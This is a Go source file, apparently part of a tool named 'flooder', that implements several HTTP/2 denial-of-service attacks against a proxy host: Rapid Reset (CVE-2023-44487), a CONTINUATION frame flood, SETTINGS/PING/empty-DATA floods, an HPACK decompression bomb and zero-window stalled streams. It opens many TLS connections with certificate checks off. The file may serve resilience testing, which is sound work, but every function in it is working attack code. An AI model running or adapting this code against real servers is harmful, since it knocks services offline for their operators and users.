//go:build linux

package main

import (
	"bytes"
	"crypto/tls"
	"net"
	"strings"
	"time"

	xhttp2 "golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// http2 is a connection of HTTP/2 on which any frames can be sent.
type http2 struct {
	f     *flooder
	conn  net.Conn
	frame *xhttp2.Framer
	out   *bytes.Buffer // what is not sent yet
	next  uint32        // id of a stream
	block bytes.Buffer
	enc   *hpack.Encoder
}

// keepHTTP2 has n connections of HTTP/2 over TLS. Nothing that the proxy says is answered, but its
// settings are acknowledged.
func (f *flooder) keepHTTP2(n int, use func(i int, h *http2), settings ...xhttp2.Setting) {
	f.keep(n, f.toSecure, func(i int, c net.Conn) {
		t := tls.Client(c, &tls.Config{ServerName: webHost, InsecureSkipVerify: true, NextProtos: []string{"h2"}})
		if t.HandshakeContext(f.ctx) != nil || t.ConnectionState().NegotiatedProtocol != "h2" {
			return
		}
		f.count("handshakes", 1)
		h := &http2{f: f, conn: t, out: new(bytes.Buffer), next: 1}
		h.frame, h.enc = xhttp2.NewFramer(h.out, nil), hpack.NewEncoder(&h.block)
		h.frame.AllowIllegalWrites = true
		h.out.WriteString(xhttp2.ClientPreface)
		_ = h.frame.WriteSettings(settings...) // into memory, as all frames
		_ = h.frame.WriteSettingsAck()
		if !h.flush() {
			return
		}
		go func() {
			drain(t)
			c.Close() // so that writing ends, too
		}()
		use(i, h)
	})
}

// flush sends what was written. It reports whether that worked.
func (h *http2) flush() bool {
	_, err := h.conn.Write(h.out.Bytes())
	h.out.Reset()
	return err == nil
}

// head returns the header block of a request.
func (h *http2) head(path string) []byte {
	h.block.Reset()
	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", webHost}, {":path", path}} {
		_ = h.enc.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	return h.block.Bytes()
}

// open begins a stream with a request head.
func (h *http2) open(block []byte, whole bool) (id uint32) {
	id = h.next
	h.next += 2
	_ = h.frame.WriteHeaders(xhttp2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: whole})
	return id
}

// rapidReset opens streams and resets them (CVE-2023-44487).
func (f *flooder) rapidReset() {
	pace := f.pace(9000)
	const batch = 20
	f.keepHTTP2(60, func(i int, h *http2) {
		for pace.take(batch) {
			for range batch {
				_ = h.frame.WriteRSTStream(h.open(h.head("/128"), true), xhttp2.ErrCodeCancel)
			}
			if !h.flush() {
				return
			}
			f.count("streams", batch)
		}
	})
}

// continuation sends header blocks that do not end (CVE-2024-27316 and its kin).
func (f *flooder) continuation() {
	pace := f.pace(9000)
	const batch = 5
	f.keepHTTP2(60, func(i int, h *http2) {
		id := h.open(h.head("/128"), false)
		h.block.Reset()
		_ = h.enc.WriteField(hpack.HeaderField{Name: "x-a", Value: strings.Repeat("~", 700), Sensitive: true})
		for pace.take(batch) {
			for range batch {
				_ = h.frame.WriteContinuation(id, false, h.block.Bytes())
			}
			if !h.flush() {
				return
			}
			f.count("frames", batch)
		}
	})
}

// controlFrames sends frames that say nothing (CVE-2019-9512, -9515, -9518).
func (f *flooder) controlFrames() {
	pace := f.pace(30_000)
	const batch = 50
	f.keepHTTP2(60, func(i int, h *http2) {
		h.block.Reset()
		for _, field := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", bodyHost}, {":path", "/"}} {
			_ = h.enc.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
		}
		_ = h.frame.WriteHeaders(xhttp2.HeadersFrameParam{StreamID: 1, BlockFragment: h.block.Bytes(), EndHeaders: true})
		for pace.take(batch) {
			for range batch {
				switch i % 3 {
				case 0:
					_ = h.frame.WriteSettings()
				case 1:
					_ = h.frame.WritePing(false, [8]byte{})
				default:
					_ = h.frame.WriteData(1, false, nil)
				}
			}
			if !h.flush() {
				return
			}
			f.count("frames", batch)
		}
	})
}

// hpackBomb sends heads that are small on the wire and large when they are decompressed.
func (f *flooder) hpackBomb() {
	pace := f.pace(150)
	f.keepHTTP2(60, func(i int, h *http2) {
		h.head("/128")
		_ = h.enc.WriteField(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("~", 3900)})
		block := bytes.Clone(h.block.Bytes())
		// The newest entry of the dynamic table (RFC 7541 section 2.3.3), again and again.
		block = append(block, bytes.Repeat([]byte{0x80 | 62}, 16<<10-len(block))...)
		for pace.next() {
			h.open(block, true)
			if !h.flush() {
				return
			}
			f.count("heads", 1)
		}
	})
}

// stalledWindows asks for much, and takes nothing.
func (f *flooder) stalledWindows() {
	f.keepHTTP2(60, func(i int, h *http2) {
		for range 100 {
			h.open(h.head("/1048576"), true)
		}
		if !h.flush() {
			return
		}
		f.count("streams", 100)
		for f.sleep(time.Second) {
			if _, err := h.conn.Write(nil); err != nil {
				return
			}
		}
	}, xhttp2.Setting{ID: xhttp2.SettingInitialWindowSize, Val: 0})
}
